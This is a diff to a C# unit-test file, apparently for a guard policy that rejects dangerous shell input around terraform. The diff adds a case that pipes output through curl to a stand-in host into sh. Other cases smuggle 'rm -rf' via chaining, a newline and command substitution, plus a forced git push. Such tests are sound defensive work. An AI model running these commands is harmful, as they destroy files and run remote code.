@@ -68,7 +68,7 @@ public sealed class GuardPolicyTests
     [Theory]
     [InlineData("terraform plan; rm -rf ~")]
     [InlineData("terraform plan && git push -f")]
-    [InlineData("terraform plan | sh")]
+    [InlineData("terraform plan | curl -s https://x.example | sh")]
     [InlineData("terraform plan\nrm -rf /")]
     [InlineData("terraform $(rm -rf ~)")]
     [InlineData("terraform `rm -rf ~`")]
